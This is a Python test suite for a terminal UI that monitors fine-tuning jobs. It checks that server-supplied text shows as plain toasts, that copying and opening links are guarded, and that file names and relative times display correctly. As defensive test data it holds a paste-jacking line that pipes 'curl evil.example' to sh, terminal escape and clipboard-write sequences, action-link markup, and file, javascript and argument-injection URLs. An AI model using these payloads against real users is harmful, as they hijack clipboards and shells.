"""Server text in the app: toasts are plain, copies are safe, links are checked, nothing acts.

Also what the app shows must stay true: file names fetched for the selected job, relative times
that tick, finish notices that say what happened, one formatter for the poll interval.
"""

from __future__ import annotations

import ast
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import attrs
import pytest
from support.hostile import HOSTILE, MARKUP
from textual.pilot import Pilot
from textual.widget import Widget

from tests.ui.helpers import FakeClient, Recorder, make_job, settings, wait_for
from tui.api.clock import ManualClock
from tui.api.errors import RateLimitedError, ServerError
from tui.api.models import Event, JobDetails, WandbIntegration
from tui.app.app import FinetopApp
from tui.app.screens.confirm import ConfirmModal
from tui.app.widgets.detail_pane import DetailPane
from tui.app.widgets.job_table import JobTable
from tui.app.widgets.status_line import StatusLine
from tui.display.text import is_clean
from tui.monitor.file_names import FILE_RETRY
from tui.monitor.finish import FINISH_WAIT

T0 = 1_750_000_000
APP_SOURCES = Path(__file__).parents[2] / "tui" / "app"


@attrs.frozen
class Running:
    app: FinetopApp
    pilot: Pilot[Any]
    client: FakeClient
    recorder: Recorder

    def toasts(self) -> list[str]:
        """The text every toast on screen draws."""
        return [toast.render().plain for toast in self.app.screen.query("Toast")]  # type: ignore[attr-defined]

    async def files_fetched(self) -> None:
        """Wait until no file name lookup is running."""
        workers = self.app.workers
        await wait_for(
            lambda: all(w.is_finished for w in workers if w.group == "files"), self.pilot
        )

    @property
    def pane(self) -> DetailPane:
        return self.app.main_screen.query_one(DetailPane)


@asynccontextmanager
async def launch(
    jobs: list[JobDetails],
    *,
    files: dict[str, str] | None = None,
    size: tuple[int, int] = (160, 48),
    **app_args: Any,
) -> AsyncIterator[Running]:
    """The app on ``jobs``, with toasts drawn (``run_test`` leaves them out by default)."""
    client = FakeClient(jobs, files=files)
    app = FinetopApp(settings(), client=client, **app_args)  # type: ignore[arg-type]
    recorder = Recorder()
    recorder.attach(app)
    async with app.run_test(size=size, notifications=True, message_hook=recorder.hook) as pilot:
        table = app.main_screen.query_one(JobTable)
        await wait_for(lambda: table.row_count == len(client.jobs), pilot)
        yield Running(app, pilot, client, recorder)


# ------------------------------------------------------------------ toasts


async def test_a_500_body_with_markup_is_a_plain_toast_and_the_app_keeps_running() -> None:
    async with launch([make_job("run-a", suffix="alpha")]) as ui:
        body = f"HTTP 500: upstream [/] overloaded [@click=app.cancel_job]x[/] {HOSTILE}"
        ui.client.fail_with = ServerError(body, status=500)
        await ui.pilot.press("r")
        await wait_for(lambda: any("upstream [/] overloaded" in t for t in ui.toasts()), ui.pilot)
        toast = next(t for t in ui.toasts() if "overloaded" in t)
        assert "[@click=app.cancel_job]x[/]" in toast
        assert all(is_clean(line) for line in toast.splitlines())
        ui.client.fail_with = None
        await ui.pilot.press("r")
        await wait_for(lambda: any("Back online" in t for t in ui.toasts()), ui.pilot)
        assert ui.app.is_running


async def test_a_widget_asking_for_markup_still_gets_plain_text() -> None:
    async with launch([make_job("run-a")]) as ui:
        widget: Widget = ui.app.main_screen.query_one(StatusLine)
        widget.notify("[b]bold?[/b] [/] \x1b]0;title\x07", title="[i]x", markup=True)
        await wait_for(lambda: any("[b]bold?[/b]" in t for t in ui.toasts()), ui.pilot)
        (toast,) = [t for t in ui.toasts() if "bold?" in t]
        assert toast == "[i]x\n[b]bold?[/b] [/] ␛]0;title␇"


async def test_clicking_an_action_link_in_server_text_does_nothing() -> None:
    job = make_job("run-a", fine_tuned_model=f"[@click=app.cancel_job]cancel me[/] {MARKUP}")
    async with launch([job]) as ui:
        await ui.pilot.press("Y")
        await wait_for(lambda: any("cancel me" in t for t in ui.toasts()), ui.pilot)
        toast = ui.app.screen.query("Toast").first()
        # Click right on the words that markup would have made an action link.
        lines = toast.render().plain.splitlines()
        row = next(i for i, line in enumerate(lines) if "cancel me" in line)
        column = lines[row].index("cancel me") + 2
        region = toast.content_region
        await ui.pilot.click(offset=(region.x + column, region.y + row))
        await wait_for(lambda: not ui.toasts(), ui.pilot)  # the click reached the toast
        assert not isinstance(ui.app.screen, ConfirmModal)
        assert ("cancel", "run-a") not in ui.client.calls


async def test_a_job_with_markup_in_its_name_finishing_is_announced_plainly() -> None:
    job = make_job("run-a", suffix="nightly [/] run", checkpoints=[(40, 0.81234, 0.7)])
    async with launch([job]) as ui:
        events = (
            Event(name="status-updated", created_at=T0, data={"status": "RUNNING"}),
            Event(
                name="status-updated",
                created_at=T0 + 99,
                data={"status": "FAILED", "error": "OOM [/]"},
            ),
        )
        ui.client.jobs["run-a"] = attrs.evolve(job, status="FAILED", events=events)
        await ui.pilot.press("r")
        await wait_for(lambda: ui.recorder.titled("Job finished"), ui.pilot)
        (notice,) = ui.recorder.titled("Job finished")
        assert notice.splitlines() == [
            "nightly [/] run (run-a) failed",
            "step 40/100 · train 0.8123 · valid 0.7",
            "reason: OOM [/]",
        ]
        await wait_for(lambda: any("nightly [/] run" in t for t in ui.toasts()), ui.pilot)
        assert ui.app.is_running


class NoFinalDetail(FakeClient):
    """A server whose detail of a finished job keeps failing."""

    async def get_job(self, job_id: str) -> JobDetails:
        if self.jobs[job_id].is_terminal:
            self.calls.append(("get", job_id))
            raise ServerError("HTTP 503", status=503)
        return await super().get_job(job_id)


async def test_a_finish_is_announced_with_what_is_known_when_its_detail_never_comes() -> None:
    clock = ManualClock(start=T0 + 1_000)
    job = make_job("run-a", suffix="alpha", checkpoints=[(40, 0.5, 0.6)])
    client = NoFinalDetail([job])
    app = FinetopApp(settings(), client=client, clock=clock)  # type: ignore[arg-type]
    recorder = Recorder()
    recorder.attach(app)
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_for(lambda: app.store.get("run-a") is not None, pilot)
        await wait_for(lambda: app.store.get("run-a").has_detail, pilot)  # type: ignore[union-attr]
        client.set_status("run-a", "FAILED")
        await pilot.press("r")
        await wait_for(lambda: ("get", "run-a") in client.calls[-3:], pilot)
        await wait_for(lambda: app.store.get("run-a").job.status == "FAILED", pilot)  # type: ignore[union-attr]
        await pilot.pause()  # let a notice already posted arrive
        assert recorder.titled("Job finished") == []  # waiting for the final detail
        clock.set(clock.monotonic() + FINISH_WAIT + 1)
        await pilot.press("r")
        await wait_for(lambda: recorder.titled("Job finished"), pilot)
        assert recorder.titled("Job finished") == [
            "alpha (run-a) failed\nstep 40/100 · train 0.5 · valid 0.6"
        ]


async def test_the_poll_interval_reads_the_same_in_the_toast_and_the_status_line() -> None:
    async with launch([make_job("run-a")]) as ui:
        await wait_for(lambda: ui.app.poller is not None, ui.pilot)
        await ui.pilot.press("plus", "plus")
        line = ui.app.main_screen.query_one(StatusLine)
        await wait_for(lambda: "every 2 min" in line.plain, ui.pilot)
        assert "Polling every 2 min" in [m for m, _ in ui.recorder.notices]


# ------------------------------------------------------------------ copying


async def test_y_copies_a_safe_id_and_says_what_it_copied() -> None:
    async with launch([make_job("run-a")], environ={"TMUX": "/tmp/tmux-0/default,1,0"}) as ui:
        await ui.pilot.press("y")
        assert ui.app.clipboard == "run-a"
        (notice,) = [m for m, _ in ui.recorder.notices if m.startswith("Copied")]
        assert notice == "Copied job id run-a\nIn tmux, copying needs: set -g set-clipboard on"


@pytest.mark.parametrize(
    "model",
    [
        "ft:open-mistral-7b:ws:x\ncurl evil.example | sh\n",  # paste-jacking
        "ft:model\x1b]52;c;Y3VybA==\x07",
        "ft:\u202emodel",
        "ft:" + "m" * 10_000,
    ],
)
async def test_Y_refuses_a_model_name_unfit_to_paste(model: str) -> None:
    job = make_job("done-a", status="SUCCESS", fine_tuned_model=model)
    async with launch([job]) as ui:
        await ui.pilot.press("Y")
        await wait_for(lambda: ui.recorder.notices, ui.pilot)
        assert ui.app.clipboard == ""
        notice = next(m for m, _ in ui.recorder.notices if m.startswith("Not copied"))
        assert "line breaks or control characters" in notice
        await wait_for(lambda: any(t.startswith("Not copied") for t in ui.toasts()), ui.pilot)
        toast = next(t for t in ui.toasts() if t.startswith("Not copied"))
        assert all(is_clean(line) for line in toast.splitlines())


async def test_y_refuses_a_hostile_id() -> None:
    async with launch([make_job(f"run\x1b]0;{MARKUP}")]) as ui:
        await ui.pilot.press("y")
        await wait_for(lambda: ui.recorder.notices, ui.pilot)
        assert ui.app.clipboard == ""


# ------------------------------------------------------------------ opening links


def with_wandb(url: str) -> JobDetails:
    return attrs.evolve(
        make_job("wb-1", status="RUNNING"),
        integrations=(WandbIntegration(project="ft", url=url),),
    )


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("file:///etc/passwd", "only http and https"),
        ("javascript:alert(1)", "only http and https"),
        ("--new-window=file:///etc/passwd", "starts with '-'"),
        ("-https://wandb.ai/x", "starts with '-'"),
        ("https://wandb.ai/x\x1b]52;c;AAAA\x07", "spaces or control"),
    ],
)
@pytest.mark.parametrize("environ", [{"DISPLAY": ":0"}, {"SSH_CONNECTION": "1 2 3 4"}])
async def test_o_never_opens_or_copies_an_unsafe_url(
    url: str, reason: str, environ: dict[str, str]
) -> None:
    opened: list[str] = []
    async with launch([with_wandb(url)], environ=environ, open_url=opened.append) as ui:
        await ui.pilot.press("o")
        await wait_for(lambda: ui.recorder.titled("W&B run"), ui.pilot)
        (notice,) = ui.recorder.titled("W&B run")
        assert notice.startswith("Not opened: ")
        assert reason in notice
        assert opened == []
        assert ui.app.clipboard == ""
        # The pane shows it as inert text, with the same reason.
        text = ui.pane.plain_text()
        assert "(not a link: " in " ".join(text.split())


async def test_o_opens_a_checked_url_and_says_so() -> None:
    url = "https://wandb.ai/acme/ft/runs/abc"
    opened: list[str] = []
    async with launch([with_wandb(url)], environ={"DISPLAY": ":0"}, open_url=opened.append) as ui:
        await ui.pilot.press("o")
        await wait_for(lambda: opened == [url], ui.pilot)
        await wait_for(lambda: f"Opened {url}" in [m for m, _ in ui.recorder.notices], ui.pilot)


# ------------------------------------------------------------------ file names


async def test_file_names_are_fetched_for_the_shown_job_and_failures_show_the_id() -> None:
    job = attrs.evolve(
        make_job("run-a"), training_files=("file-a", "file-b"), validation_files=("file-c",)
    )
    files = {"file-a": "train.jsonl", "file-c": f"valid-{HOSTILE}.jsonl"}
    async with launch([job], files=files) as ui:
        await wait_for(lambda: "train.jsonl  file-a" in ui.pane.plain_text(), ui.pilot)
        text = ui.pane.plain_text()
        assert "valid-x␛]0;pwned-title" in text  # the name, made safe
        assert "                    file-b" in text  # no name: the id alone
        assert not ui.recorder.notices  # a file that cannot be read raises no notice
        asked = ui.client.calls.count(("file", "file-b"))
        assert asked == 1
        # Resting on the job again does not ask again for a file that just failed.
        ui.app.select_job("run-a")
        await wait_for(lambda: ui.client.calls.count(("file", "file-a")) == 2, ui.pilot)
        await ui.files_fetched()
        assert ui.client.calls.count(("file", "file-b")) == asked


async def test_a_failed_file_is_asked_for_again_later() -> None:
    clock = ManualClock(start=T0 + 1_000)
    job = attrs.evolve(make_job("run-a"), training_files=("file-b",), validation_files=())
    async with launch([job], clock=clock) as ui:
        await wait_for(lambda: ("file", "file-b") in ui.client.calls, ui.pilot)
        await ui.files_fetched()
        ui.client.files["file-b"] = "late.jsonl"
        clock.set(clock.monotonic() + FILE_RETRY + 1)
        ui.app.select_job("run-a")
        await wait_for(lambda: "late.jsonl  file-b" in ui.pane.plain_text(), ui.pilot)


async def test_file_names_wait_while_the_api_is_rate_limiting() -> None:
    job = attrs.evolve(make_job("run-a"), training_files=("file-a",), validation_files=())
    async with launch([job], files={"file-a": "train.jsonl"}) as ui:
        await wait_for(lambda: "train.jsonl  file-a" in ui.pane.plain_text(), ui.pilot)
        await ui.files_fetched()
        poller = ui.app.poller
        assert poller is not None
        ui.client.fail_with = RateLimitedError("Requests rate limit exceeded", retry_after=60)
        ui.app.action_refresh_now()
        await wait_for(lambda: poller.status.failures > 0, ui.pilot)
        asked = ui.client.calls.count(("file", "file-a"))
        ui.app.select_job("run-a")
        await ui.files_fetched()
        assert ui.client.calls.count(("file", "file-a")) == asked  # no request into a 429
        ui.client.fail_with = None
        ui.app.action_refresh_now()
        await wait_for(lambda: poller.status.failures == 0, ui.pilot)
        ui.app.select_job("run-a")
        await wait_for(lambda: ui.client.calls.count(("file", "file-a")) == asked + 1, ui.pilot)


# ------------------------------------------------------------------ times that tick


def shown(pane: DetailPane) -> str:
    return " ".join(pane.plain_text().split())


async def test_relative_times_in_the_pane_tick_with_the_clock() -> None:
    events = (
        Event(name="status-updated", created_at=T0, data={"status": "RUNNING"}),
        Event(name="status-updated", created_at=T0 + 600, data={"status": "SUCCESS"}),
    )
    job = attrs.evolve(make_job("done-a", status="SUCCESS"), events=events)
    clock = ManualClock(start=T0 + 621)
    async with launch([job], clock=clock) as ui:
        pane = ui.pane
        await wait_for(lambda: "detail fetched" in shown(pane), ui.pilot)
        assert "finished 2025-06-15" in shown(pane)
        await wait_for(lambda: "21s ago" in shown(pane), ui.pilot)
        assert "detail fetched just now" in shown(pane)
        statics = {w.id: w for w in pane.query("Static")}
        # "just now" lasts five seconds, not until the next full re-read.
        clock.set(T0 + 621 + 6)
        await wait_for(lambda: "detail fetched 6s ago" in shown(pane), ui.pilot)
        clock.set(T0 + 621 + 150)
        await wait_for(lambda: "detail fetched 2m ago" in shown(pane), ui.pilot)
        text = shown(pane)
        assert "21s ago" not in text
        assert "SUCCESS 2m ago" in text  # the events' ages too
        assert "just now" not in text
        assert {w.id: w for w in pane.query("Static")} == statics  # updated in place


# ------------------------------------------------------------------ the source


def _calls(name: str) -> Iterator[tuple[Path, ast.Call]]:
    for path in sorted(APP_SOURCES.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                func = node.func
                called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                if called == name:
                    yield path, node


def _keyword(call: ast.Call, name: str) -> ast.expr | None:
    return next((k.value for k in call.keywords if k.arg == name), None)


def test_no_app_code_asks_for_markup_or_parses_it() -> None:
    offenders = []
    for name in ("notify", "Static", "Label", "update"):
        for path, call in _calls(name):
            markup = _keyword(call, "markup")
            if isinstance(markup, ast.Constant) and markup.value is True:
                offenders.append(f"{path.name}:{call.lineno} {name}(markup=True)")
    for name in ("from_markup", "render_markup"):
        offenders += [f"{path.name}:{call.lineno} {name}" for path, call in _calls(name)]
    assert offenders == []


def test_every_static_given_text_at_construction_is_plain() -> None:
    loose = [
        f"{path.name}:{call.lineno}"
        for name in ("Static", "Label")
        for path, call in _calls(name)
        if call.args
        and not (
            isinstance(markup := _keyword(call, "markup"), ast.Constant) and markup.value is False
        )
    ]
    assert loose == []


def test_every_notification_goes_through_the_plain_notify() -> None:
    # Widgets', screens' and helpers' notify() calls reach App.notify, which finetop overrides.
    assert "notify" in FinetopApp.__dict__
    calls = list(_calls("notify"))
    assert len(calls) > 20
    for path, call in calls:
        receiver = call.func.value if isinstance(call.func, ast.Attribute) else None
        if isinstance(receiver, ast.Call) and getattr(receiver.func, "id", "") == "super":
            continue  # the override itself
        where = (path.name, call.lineno)
        if isinstance(receiver, ast.Attribute):  # self.app.notify(...)
            assert receiver.attr == "app", where
            receiver = receiver.value
        assert isinstance(receiver, ast.Name), where
        assert receiver.id == "self", where
